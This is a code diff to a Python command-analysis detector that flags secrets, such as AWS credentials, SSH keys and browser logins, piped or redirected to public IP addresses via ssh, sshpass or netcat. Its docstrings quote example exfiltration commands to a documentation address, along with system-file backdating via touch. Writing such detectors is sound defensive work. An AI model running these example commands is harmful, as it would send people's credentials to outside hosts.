@@ -41,7 +41,7 @@ from collections.abc import Callable, Sequence
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
-from redline.redlines.capabilities import PATTERNS, Capability, Hit
+from redline.redlines.capabilities import PATTERNS, PRIVATE_IPV4, Capability, Hit
 from redline.redlines.grammars import CodeLanguage, parse
 from redline.redlines.named import name_written
 
@@ -128,6 +128,31 @@ def _sign_in_replaced(name: str, words: list[str]) -> bool:
     return not any(path.rsplit("/", 1)[-1].startswith(kept) for path in paths[:-1])
 
 
+_SECRETS_SENT = (
+    Capability.SECRET_FILE,
+    Capability.BROWSER_STORE,
+    Capability.TOKEN_STORE,
+)
+"""What a stage of a pipeline may read that is a secret to send: keys and cloud credentials,
+browsers' saved logins and cookies, applications' token stores."""
+
+
+def _reads_secret(text: str) -> bool:
+    """Whether a command's own text names a secret (`_SECRETS_SENT`'s patterns)."""
+    return any(pattern.search(text) for secret in _SECRETS_SENT for pattern in PATTERNS[secret])
+
+
+def _ssh_host(words: list[str]) -> str | None:
+    """The host `ssh`'s words name (past its options and their values, a `user@` dropped)."""
+    index = 0
+    while index < len(words) and words[index].startswith("-"):
+        flag = words[index]
+        index += 2 if len(flag) == 2 and flag[1] in _SSH_VALUED else 1
+    if index >= len(words):
+        return None
+    return words[index].rsplit("@", 1)[-1]
+
+
 def _backdates_system_file(words: list[str]) -> bool:
     """`touch -r /bin/ls /usr/lib/libx.so`, `touch -d '2021-03-14' /etc/ld.so.preload`: a
     system file given another file's times or a date of its choosing."""
@@ -146,9 +171,18 @@ def _backdates_system_file(words: list[str]) -> bool:
 
 _STDIN_BODY = re.compile(r"(?:^|=)@(?:-|/dev/stdin)$")
 """An upload's body named as what it reads on standard input (`curl -d @-`, `-F f=@-`)."""
-_STDIN_TO_FILE = re.compile(r"\s{0,8}(?:cat\s{0,8}>|dd\s[^|;&]{0,120}?\bof=|tee\s)")
+_STDIN_TO_FILE = re.compile(
+    r"(?:^|[;&|(]|\s)(?:cat\s{0,8}(?:-\s{0,8})?>|tee\s|dd\s[^|;&\n]{0,120}?\bof="
+    r"|base64\s{1,8}(?:-d|--decode|-D)\s{0,8}>)"
+)
 """A remote command that writes what it reads on standard input to a file (`cat > f`,
-`cat >> f`, `dd of=f`, `tee f`)."""
+`cat - >> f`, `sudo tee f`, `dd of=f`, `base64 -d > f`), anywhere in it (`mkdir -p d; cat >
+d/f`)."""
+_PUBLIC_ADDRESS = re.compile(rf"(?!127\.|0\.|{PRIVATE_IPV4})\d{{1,3}}(?:\.\d{{1,3}}){{3}}")
+"""A public IPv4 address (not loopback, private or unspecified): a host named only by its
+address, that no inventory or SSH configuration of one's own names."""
+_SSHPASS_VALUED = frozenset({"-p", "-f", "-d", "-P"})
+"""sshpass's options that take a value (`sshpass -p PASSWORD ssh ...`)."""
 _RAW_SENDERS = frozenset({"nc", "ncat", "netcat"})
 """Network clients that send what they read on standard input to the host they name."""
 _LISTENS = re.compile(r"-[a-zA-Z]*[lzL]|--listen|--zero")
@@ -851,10 +885,19 @@ class _Reader:
             self.nested(line.group(1), node, line.start(1))
 
     def redirected(self, node: Node) -> None:
-        """A heredoc fed to a shell or a scheduler (`at now + 1 minute <<EOF`) is its script."""
+        """A heredoc fed to a shell or a scheduler (`at now + 1 minute <<EOF`) is its script;
+        a secret fed to an upload to another host (`ssh 203.0.113.5 'cat > f' < ~/.aws/credentials`)
+        is sent, as when piped (`_piped_to_another_host`)."""
         body = node.child_by_field_name("body")
         if body is None or body.type != "command":
             return
+        if any(
+            child.type == "file_redirect"
+            and self._text(child).lstrip("0").startswith("<")
+            and _reads_secret(self._text(child))
+            for child in node.children
+        ) and self._sends_to_address(body):
+            self.hit(Capability.NET_SEND, body)
         runner = _stdin_runner(body, self.source)
         if runner is None:
             return
@@ -955,24 +998,48 @@ class _Reader:
                     return
 
     def _piped_to_another_host(self, names: list[str], stages: list[Node]) -> None:
-        """A later stage that sends what it reads on standard input to another host: `ssh HOST
-        'cat > FILE'` (or `dd of=FILE`, `tee FILE`) writes it there, `nc HOST PORT` sends it.
-        What the pipeline makes is uploaded, as by `scp` (`NET_SEND`); a listener (`nc -l`) or
-        a port check (`nc -z`) sends nothing."""
-        for name, stage in zip(names[1:], stages[1:], strict=True):
-            arguments = _unwrapped(stage, self.source)[1]
-            if name == "ssh":
-                remote = _command_argument(name, arguments)
-                sends = remote is not None and _STDIN_TO_FILE.match(remote[0]) is not None
-            else:
-                words = [word for word, _ in arguments]
-                sends = (
-                    name in _RAW_SENDERS
-                    and any(not word.startswith("-") for word in words)
-                    and not any(_LISTENS.match(word) for word in words)
-                )
-            if sends:
-                self.hit(Capability.NET_SEND, stage)
+        """A later stage that sends what it reads on standard input to a host named only by its
+        public address (`ssh 203.0.113.5 'cat > FILE'`, also after `sshpass -p PW`, `tee`,
+        `dd of=`, `base64 -d >`; `nc 203.0.113.5 PORT`), fed by stages whose own arguments
+        read a secret (`cat ~/.aws/credentials`, `tar czf - ~/.ssh`): the secret uploaded
+        as by `scp` (`NET_SEND`). What the far side writes to is not read (a key put in place
+        there is no secret read here); a host of one's own named by its name (`ssh jump 'cat >
+        ~/.kube/config'`) is a copy between one's own machines, as `scp` to it is; a listener
+        (`nc -l`) or a port check (`nc -z`) sends nothing."""
+        for index in range(1, len(stages)):
+            if self._sends_to_address(stages[index]) and any(
+                _reads_secret(self._text(stage)) for stage in stages[:index]
+            ):
+                self.hit(Capability.NET_SEND, stages[index])
+                return
+
+    def _sends_to_address(self, stage: Node) -> bool:
+        """Whether `stage` sends its standard input to a public address: `ssh ADDRESS 'cat >
+        f'` (past `sshpass`), `nc ADDRESS PORT`."""
+        name, arguments = _unwrapped(stage, self.source)
+        if name == "sshpass":
+            while arguments and arguments[0][0].startswith("-"):
+                flag, arguments = arguments[0][0], arguments[1:]
+                if flag in _SSHPASS_VALUED and arguments:
+                    arguments = arguments[1:]
+            if not arguments:
+                return False
+            name, arguments = arguments[0][0].rsplit("/", 1)[-1], arguments[1:]
+        words = [word for word, _ in arguments]
+        if name == "ssh":
+            remote = _command_argument(name, arguments)
+            if remote is None or _STDIN_TO_FILE.search(remote[0]) is None:
+                return False
+            host = _ssh_host(words)
+            return host is not None and _PUBLIC_ADDRESS.fullmatch(host) is not None
+        return (
+            name in _RAW_SENDERS
+            and not any(_LISTENS.match(word) for word in words)
+            and any(_PUBLIC_ADDRESS.fullmatch(word) for word in words)
+        )
+
+    def _text(self, node: Node) -> str:
+        return self.source[node.start_byte : node.end_byte].decode("utf-8", "replace")
 
     def _printed_in(self, group: Node, runner: str) -> None:
         """Feed `runner` the strings printed by `echo` or `printf` anywhere in `group`."""
